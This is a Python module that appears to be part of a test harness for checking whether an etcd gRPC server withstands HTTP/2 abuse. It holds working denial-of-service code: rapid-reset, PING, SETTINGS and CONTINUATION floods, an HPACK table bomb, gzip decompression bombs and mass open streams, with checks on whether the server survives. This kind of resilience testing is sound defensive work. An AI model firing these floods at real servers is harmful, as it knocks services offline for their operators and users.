"""HTTP/2 frames that cost the sender nothing: floods, and headers that grow when they are unpacked."""

import collections
import struct
import time
import zlib

import rpc
import wire
from arena import attack, carry_out

FLOOD_SECONDS = 1.0


def flood(target, make_block, what, read=True, connections=4, setup=lambda pipe: b""):
    """Sends what make_block(pipe) makes on some connections in turn, as long as the server takes it."""
    with target.bystanders():
        pipes = [wire.Wire(target.port) for _ in range(connections)]
        for pipe in pipes:
            pipe.push(setup(pipe))
        sent, deadline = 0, time.monotonic() + FLOOD_SECONDS
        while time.monotonic() < deadline and any(pipe.ended is None for pipe in pipes):
            for pipe in pipes:
                if pipe.ended is None:
                    sent += pipe.push(make_block(pipe), 0.2, read)
        for pipe in pipes:
            pipe.listen(0.1)
        ends = sorted({pipe.end() for pipe in pipes})
        target.note(f"{sent / 1e6:.1f} MB of {what} on {connections} connections; {', '.join(ends)}")
        for pipe in pipes:
            pipe.close()


@attack("rapid reset: calls opened and reset at once")
def rst_flood(target):
    fields = rpc.header_fields(rpc.request_fields("/etcdserverpb.KV/Range"))
    body = rpc.grpc_message(rpc.enc((1, b"k")))

    def block(pipe):
        out = []
        for _ in range(200):
            number = pipe.number()
            out += [rpc.frame(rpc.HEADERS, rpc.END_HEADERS, number, fields),
                    rpc.frame(rpc.DATA, rpc.END_STREAM, number, body), wire.reset(number)]
        return b"".join(out)

    flood(target, block, "opened and reset calls")


@attack("1500 calls cancelled in a second, as clients do whose deadlines pass: the connection lives on",
        data="values")
def cancels(target):
    request = rpc.enc((1, b"big/"), (2, b"big0"))
    with target.bystanders():
        with wire.Wire(target.port) as pipe:
            for _ in range(150):
                out = b""
                for _ in range(10):
                    out += pipe.call("/etcdserverpb.KV/Range", request)
                    out += wire.reset(pipe.next_number - 2)
                pipe.push(out)
                pipe.listen(0.005)
            pipe.push(pipe.call("/etcdserverpb.KV/Range", rpc.enc((1, b"x"))))
            pipe.listen(5, lambda: pipe.statuses[rpc.OK] > 0)
            target.check(pipe.statuses[rpc.OK] == 1, f"the connection did not live on: {pipe.end()}")


@attack("pings without end, their answers read")
def pings(target):
    flood(target, lambda _: rpc.frame(rpc.PING, 0, 0, b"12345678") * 2000, "pings")


@attack("pings without end, their answers not read")
def pings_unread(target):
    flood(target, lambda _: rpc.frame(rpc.PING, 0, 0, b"12345678") * 2000, "pings", read=False)


@attack("SETTINGS without end, their answers not read")
def settings_unread(target):
    flood(target, lambda _: rpc.frame(rpc.SETTINGS, 0, 0) * 2000, "SETTINGS", read=False)


@attack("SETTINGS that change the window of 1000 open streams again and again")
def settings_windows(target):
    def setup(pipe):
        fields = rpc.header_fields(rpc.request_fields("/etcdserverpb.KV/Range"))
        return b"".join(rpc.frame(rpc.HEADERS, rpc.END_HEADERS, pipe.number(), fields) for _ in range(1000))

    low, high = (rpc.frame(rpc.SETTINGS, 0, 0, struct.pack(">HI", 4, size)) for size in (1, 1 << 20))
    flood(target, lambda _: (low + high) * 50, "SETTINGS", setup=setup)


@attack("frames for nothing: window updates, priorities, empty DATA")
def idle_frames(target):
    def setup(pipe):
        pipe.first = pipe.number()
        return rpc.frame(rpc.HEADERS, rpc.END_HEADERS, pipe.first,
                         rpc.header_fields(rpc.request_fields("/etcdserverpb.KV/Put")))

    def block(pipe):
        return (rpc.frame(rpc.DATA, 0, pipe.first) + rpc.frame(wire.PRIORITY, 0, 1, b"\0\0\0\0\x10") +
                rpc.frame(rpc.DATA, 0, pipe.first)) * 1000

    flood(target, block, "empty DATA and PRIORITY", setup=setup)


@attack("a header block that CONTINUATION frames carry on for ever")
def continuations(target):
    fields = rpc.header_fields([("x-field", "a" * 200)])

    def setup(pipe):
        return rpc.frame(rpc.HEADERS, 0, pipe.number(),
                         rpc.header_fields(rpc.request_fields("/etcdserverpb.KV/Range")))

    flood(target, lambda pipe: rpc.frame(rpc.CONTINUATION, 0, 1, fields * 70) * 60, "CONTINUATION", setup=setup)


@attack("a header block that empty CONTINUATION frames carry on for ever")
def empty_continuations(target):
    def setup(pipe):
        return rpc.frame(rpc.HEADERS, 0, pipe.number(),
                         rpc.header_fields(rpc.request_fields("/etcdserverpb.KV/Range")))

    flood(target, lambda _: rpc.frame(rpc.CONTINUATION, 0, 1) * 5000, "empty CONTINUATION", setup=setup)


@attack("HPACK bomb: 4 KB put into the table once, then named 16,000 times in each call")
def header_bomb(target):
    plain = rpc.header_fields(rpc.request_fields("/etcdserverpb.KV/Range"))
    # Literal with incremental indexing, a new name: becomes entry 62 of the table.
    entry = b"\x40" + b"\x01x" + b"\x7f" + rpc.varint(3900 - 127) + b"a" * 3900

    def setup(pipe):
        return rpc.frame(rpc.HEADERS, rpc.END_HEADERS | rpc.END_STREAM, pipe.number(), plain + entry)

    def block(pipe):
        return b"".join(rpc.frame(rpc.HEADERS, rpc.END_HEADERS | rpc.END_STREAM, pipe.number(), plain + b"\xbe" * 16000)
                        for _ in range(8))

    flood(target, block, "indexed fields", setup=setup)


@attack("gzip bombs: 40 connections with 25 messages of 3 KB each that unpack to 3 MB")
def gzip_bomb(target):
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = packer.compress(bytes(3 << 20)) + packer.flush()
    with target.bystanders():
        pipes = [wire.Wire(target.port) for _ in range(40)]
        for pipe in pipes:
            pipe.push(b"".join(pipe.call("/etcdserverpb.KV/Put", bomb, metadata=[("grpc-encoding", "gzip")],
                                         compressed=True) for _ in range(25)), 1.0)
        statuses = collections.Counter()
        deadline = time.monotonic() + 10
        for pipe in pipes:
            pipe.listen(max(0.0, deadline - time.monotonic()), lambda pipe=pipe: sum(pipe.statuses.values()) >= 25)
            statuses += pipe.statuses
            pipe.close()
        target.check(not statuses[rpc.OK], "a bomb was served")
        target.note(f"codes {dict(statuses)}")


@attack("gzip bombs without end: 40 connections with 250 messages each, and a client whose puts are compressed")
def gzip_turns(target):
    def packed(data):
        packer = zlib.compressobj(9, zlib.DEFLATED, 31)
        return packer.compress(data) + packer.flush()

    def put(pipe, message):
        return pipe.call("/etcdserverpb.KV/Put", message, metadata=[("grpc-encoding", "gzip")], compressed=True)

    bomb, honest = packed(bytes(3 << 20)), packed(rpc.put_request(b"honest", b"v" * 3000))
    with target.bystanders():
        pipes = [wire.Wire(target.port) for _ in range(40)]
        for pipe in pipes:
            pipe.push(b"".join(put(pipe, bomb) for _ in range(250)), 1.0)
        worst = 0.0
        with wire.Wire(target.port) as pipe:
            for number in range(1, 6):
                began = time.monotonic()
                pipe.push(put(pipe, honest))
                pipe.listen(30, lambda number=number: sum(pipe.statuses.values()) >= number)
                worst = max(worst, time.monotonic() - began)
            target.check(pipe.statuses[rpc.OK] == 5, f"codes {dict(pipe.statuses)}, {pipe.end()}")
        target.check(worst <= 2, f"a compressed put took {worst:.1f} s")
        target.note(f"a compressed put took at most {worst:.2f} s")
        for pipe in pipes:
            pipe.close(abort=True)


@attack("20,000 calls left open on 4 connections")
def open_calls(target):
    fields = rpc.header_fields(rpc.request_fields("/etcdserverpb.KV/Put"))
    with target.bystanders():
        pipes = [wire.Wire(target.port) for _ in range(4)]
        for pipe in pipes:
            pipe.push(b"".join(rpc.frame(rpc.HEADERS, rpc.END_HEADERS, pipe.number(), fields) for _ in range(5000)))
        for pipe in pipes:
            pipe.listen(0.3)
        resets = sum((pipe.resets for pipe in pipes), type(pipes[0].resets)())
        target.note(f"refused: {dict(resets)}; {pipes[0].end()}")
        for pipe in pipes:
            pipe.close()


@attack("an attacker that pings as gRPC's keepalive allows is not ended")
def polite_pings(target):
    with target.bystanders():
        client = target.client()
        carry_out(client, (("/etcdserverpb.KV/Range", rpc.enc((1, b"x"))) for _ in range(10)), window=1)
        for _ in range(3):
            client.connection.ping()
            client.range(b"x")  # headers sent forgive
        target.check(client.connection.goaway is None, f"ended: {client.connection.goaway}")
